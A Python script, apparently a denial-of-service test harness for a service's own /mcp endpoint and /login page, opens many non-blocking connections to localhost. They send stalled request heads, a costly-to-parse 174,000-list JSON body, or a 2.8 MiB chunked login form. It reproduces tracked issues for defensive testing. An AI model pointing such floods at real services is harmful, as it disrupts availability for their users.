"""Hostile HTTP clients of the service's tools endpoint or its web view, many connections from one process,
until stdin closes.

    python http_flood.py MODE CONNECTIONS PORT          (FLOOD_TOKEN=... to send the bearer token)

Modes:
- `heads`: each connection sends a complete `POST /mcp` head declaring `Content-Length: 100`, and no body;
- `lists`: each connection POSTs a 512 KiB body of 174,000 empty lists (costly to parse, valid JSON);
- `logins` (the web view's port): each connection sends a whole `POST /login` head, no cookie, declaring a
  100-byte form, and 10 bytes of it;
- `chunked-logins` (the web view's port): each connection POSTs a login form of 2.8 MiB, chunked.

Each connection reads the answer's status line (or sees the connection closed), then starts again on a new
connection, for as long as it runs: the attacks of issue 16 (items 2 and 3) and issue 24 (items 2 and 3).
On stdin's EOF it prints what came back as one JSON object (`{"401": 1234, "closed": 5, ...}`) and exits.
One thread and non-blocking sockets (`selectors`), so that the flood costs the machine little beyond what
the service spends on it.
"""

from __future__ import annotations

import json
import os
import selectors
import socket
import sys
from collections import Counter
from dataclasses import dataclass, field

LISTS_BODY = b"[" + b",".join([b"[]"] * 174_000) + b"]"


@dataclass
class Attempt:
    out: memoryview  # what is left to send (a view: a 2.8 MiB payload is not copied at each send)
    got: bytearray = field(default_factory=bytearray)


def request(mode: str, port: int, token: str | None) -> bytes:
    if mode in ("logins", "chunked-logins"):
        return login(mode, port)
    body = LISTS_BODY if mode == "lists" else b""
    declared = len(body) if mode == "lists" else 100
    auth = f"Authorization: Bearer {token}\r\n" if token else ""
    head = (
        f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{auth}Content-Type: application/json\r\n"
        f"Accept: application/json, text/event-stream\r\nContent-Length: {declared}\r\n\r\n"
    )
    return head.encode() + body


def login(mode: str, port: int) -> bytes:
    head = f"POST /login HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    if mode == "logins":
        return f"{head}Content-Length: 100\r\n\r\ncode=abcde".encode()
    chunk = b"a" * (64 * 1024)
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(chunk), chunk) for _ in range(45))  # 2.8 MiB
    return f"{head}Transfer-Encoding: chunked\r\n\r\n".encode() + b"5\r\ncode=\r\n" + chunks + b"0\r\n\r\n"


def main() -> None:
    mode, connections, port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if mode not in ("heads", "lists", "logins", "chunked-logins"):
        raise SystemExit(f"unknown mode {mode!r}")
    payload = request(mode, port, os.environ.get("FLOOD_TOKEN"))
    selector = selectors.DefaultSelector()
    seen: Counter[str] = Counter()

    def start() -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.connect_ex(("127.0.0.1", port))
        selector.register(sock, selectors.EVENT_WRITE | selectors.EVENT_READ, Attempt(memoryview(payload)))

    def again(sock: socket.socket, outcome: str) -> None:
        seen[outcome] += 1
        selector.unregister(sock)
        sock.close()
        start()

    for _ in range(connections):
        start()
    selector.register(sys.stdin.fileno(), selectors.EVENT_READ, None)
    while True:
        for key, events in selector.select(1.0):
            if key.data is None:
                if not os.read(sys.stdin.fileno(), 4096):
                    print(json.dumps(dict(seen)), flush=True)
                    return
                continue
            sock, attempt = key.fileobj, key.data
            assert isinstance(sock, socket.socket) and isinstance(attempt, Attempt)
            if events & selectors.EVENT_WRITE and attempt.out:
                try:
                    attempt.out = attempt.out[sock.send(attempt.out) :]
                except BlockingIOError:
                    pass
                except OSError:
                    again(sock, "reset")
                    continue
                if not attempt.out:
                    selector.modify(sock, selectors.EVENT_READ, attempt)
            if events & selectors.EVENT_READ:
                try:
                    data = sock.recv(65536)
                except BlockingIOError:
                    continue
                except OSError:
                    again(sock, "reset")
                    continue
                attempt.got += data
                if b"\r\n" in attempt.got:
                    status = bytes(attempt.got).split(b" ", 2)
                    again(sock, status[1].decode(errors="replace") if len(status) > 1 else "garbled")
                elif not data:
                    again(sock, "closed")


if __name__ == "__main__":
    main()
